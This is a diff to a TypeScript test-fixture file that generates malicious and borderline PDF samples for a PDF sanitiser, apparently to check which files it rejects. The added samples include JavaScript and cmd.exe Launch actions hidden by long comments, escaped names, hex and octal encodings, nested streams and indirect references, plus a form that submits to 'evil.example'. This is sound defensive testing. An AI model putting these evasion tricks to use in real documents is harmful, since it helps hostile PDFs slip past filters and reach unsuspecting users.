@@ -28,6 +28,34 @@ function inflating(millions: number): Buffer {
   return Buffer.concat([part.subarray(0, head), ...parts])
 }
 
+const remark = `%${'c'.repeat(300)}\n`
+const script = '<</S /JavaScript /JS (app.alert(1))>>'
+const encoded = (filters: string, stream: string) =>
+  `<</Type /ObjStm /N 1 /First 6 /Filter ${filters} /Length ${stream.length}>>\nstream\n${stream}\nendstream`
+const packedTwice = (filters: string, content: string) =>
+  makePdf({ objects: [encoded(filters, `${deflateSync(content).toString('hex')}>`)] })
+
+/** PDFs that are taken, and shown in a sandbox. */
+export const sealedPdfs: Record<string, Buffer> = {
+  'objects packed by another filter': makePdf({ objects: [encoded('/LZWDecode', 'abc')] }),
+  'objects whose filter is named elsewhere': makePdf({
+    objects: [encoded('101 0 R', 'abc'), '/FlateDecode'],
+  }),
+  'objects of no type that do not inflate': makePdf({
+    objects: [encoded('/FlateDecode', 'abc').replace('/Type /ObjStm', '')],
+  }),
+  'objects whose dictionary hides its filter before the beginning of another': makePdf({
+    objects: [
+      pack(script)
+        .replace(' /Filter /FlateDecode', '')
+        .replace('/Type', '/Filter /FlateDecode /X objx /Type'),
+    ],
+  }),
+  'a form that sends data': makePdf({
+    objects: ['<</S /Submit#46orm /F (https://evil.example)>>'],
+  }),
+}
+
 /** PDFs that are not taken, by what they are, each with why. */
 export const hostilePdfs: Record<string, () => { bytes: Buffer; fault: DocumentFault }> = {
   'a script that runs when it is opened': () => ({
@@ -88,6 +116,53 @@ export const hostilePdfs: Record<string, () => { bytes: Buffer; fault: DocumentF
   }),
   'a link that is a script': () => ({
     bytes: makePdf({ catalog: '/OpenAction <</S /URI /URI (JavaScript:alert(1))>>' }),
+    fault: 'script',
+  }),
+  'a script behind a long remark': () => ({
+    bytes: makePdf({
+      catalog: `/OpenAction <</S${remark}/Java#53cript /JS${remark}(app.alert(1))>>`,
+    }),
+    fault: 'script',
+  }),
+  'a program that is started, behind a long remark': () => ({
+    bytes: makePdf({ catalog: `/AA <</O <</S${remark}/Launch /F (cmd.exe)>>>>` }),
+    fault: 'program',
+  }),
+  'another file inside, behind a long remark': () => ({
+    bytes: makePdf({ objects: [`<</Type /Filespec /EF${remark}<</F 101 0 R>>>>`] }),
+    fault: 'files',
+  }),
+  'a script in objects that are packed twice': () => ({
+    bytes: packedTwice('[/ASCIIHexDecode /Flate#44ecode]', `200 0 ${script}`),
+    fault: 'script',
+  }),
+  'a script in objects that say no type': () => ({
+    bytes: makePdf({ objects: [pack(script).replace('/Type /ObjStm', '')] }),
+    fault: 'script',
+  }),
+  'a script in an object inside of a stream': () => ({
+    bytes: makePdf({
+      objects: [`<</Length 90>>\nstream\nendobj (\n200 0 obj ${script} endobj\nendstream`],
+    }),
+    fault: 'script',
+  }),
+  'a link that is a script in hexadecimal': () => ({
+    bytes: makePdf({
+      catalog: '/OpenAction <</S /URI /URI <6a617661 73637269 70743a616c657274283129>>>',
+    }),
+    fault: 'script',
+  }),
+  'a link that is a script with an octal letter': () => ({
+    bytes: makePdf({
+      catalog: '/OpenAction <</S /URI /URI (\\152ava\\\nscript:alert\\(1\\))>>',
+    }),
+    fault: 'script',
+  }),
+  'a link that is a script, which stands elsewhere': () => ({
+    bytes: makePdf({
+      catalog: '/OpenAction <</S /URI /URI 100 0 R>>',
+      objects: ['(javascript:alert\\(1\\))'],
+    }),
     fault: 'script',
   }),
   'a password': () => ({
